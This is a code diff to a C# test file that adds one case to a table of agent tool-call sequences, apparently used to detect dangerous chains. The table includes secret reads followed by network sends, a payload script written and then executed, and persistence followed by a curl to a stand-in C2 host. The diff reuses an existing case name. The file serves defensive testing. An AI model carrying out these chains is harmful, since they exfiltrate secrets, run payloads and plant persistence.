@@ -38,6 +38,7 @@ public sealed class ChainTests
         { "read-then-exec", ["read_file path=a.txt", "run_command command=make"] },
         { "read-write-send", ["read_file path=a.txt", "write_file path=b.txt", "http_post url=https://x.example"] },
         { "env-then-network", ["get_secret name=db", "fetch url=https://x.example"] },
+        { "env-then-network", ["printenv", "send_email to=a@x.example"] },
         { "write-execute", ["write_file path=/tmp/payload.sh", "run_command command=bash /tmp/payload.sh"] },
         { "write-persist", ["write_file path=x.plist", "enable_autostart name=x"] },
         { "persist-callback", ["enable_autostart name=x", "curl url=https://c2.example"] },
